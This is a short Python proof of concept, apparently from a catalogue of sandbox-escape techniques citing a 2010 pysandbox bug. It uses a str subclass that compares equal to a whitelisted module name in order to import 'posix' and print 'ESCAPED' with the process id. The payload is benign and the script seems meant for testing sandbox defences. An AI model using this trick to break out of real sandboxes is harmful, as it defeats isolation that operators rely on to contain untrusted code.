# technique: a module name that compares equal to a granted one
# goal: import
# source: pysandbox 2010-02-26, SafeModule fooled by a str subclass
# python: 3.11-3.12
class Name(str):
    def __eq__(self, other):
        return True

    def __hash__(self):
        return hash('math')

    def __str__(self):
        return 'math'
    __repr__ = __str__

    def partition(self, _):
        return 'math', '', ''

    def split(self, *_):
        return ['math']


class Plain(str):
    pass


for kind in Name, Plain:
    try:
        module = __import__(kind('posix'))
        print('ESCAPED pid=%d' % module.getpid())
        break
    except Exception as error:
        print(type(error).__name__)
